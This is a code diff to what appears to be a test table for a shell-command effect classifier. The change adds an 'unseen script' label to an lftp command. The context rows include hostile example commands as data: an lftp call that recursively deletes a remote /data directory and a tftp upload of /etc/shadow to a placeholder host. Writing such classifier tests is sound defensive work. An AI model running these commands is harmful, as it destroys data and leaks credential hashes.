@@ -22,7 +22,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
     ['network:connect h.example external', 'crypto:weaken h.example'],
   ],
   ["lftp -c 'rm -r /data' h.example", ['network:connect h.example external', 'delete:remove-remote h.example:/data']],
-  ['lftp -f script.lftp', ['read:read script.lftp']],
+  ['lftp -f script.lftp', ['read:read script.lftp', 'opaque:unseen-script script.lftp']],
   [
     'tftp h.example -c put /etc/shadow',
     [
